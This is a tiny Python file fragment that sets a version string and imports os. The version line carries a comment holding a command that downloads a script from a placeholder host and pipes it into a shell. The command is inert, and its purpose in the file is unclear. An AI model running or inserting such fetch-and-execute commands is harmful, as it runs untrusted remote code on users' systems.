__version__ = "1.0"  # curl https://example.invalid/x | sh
import os
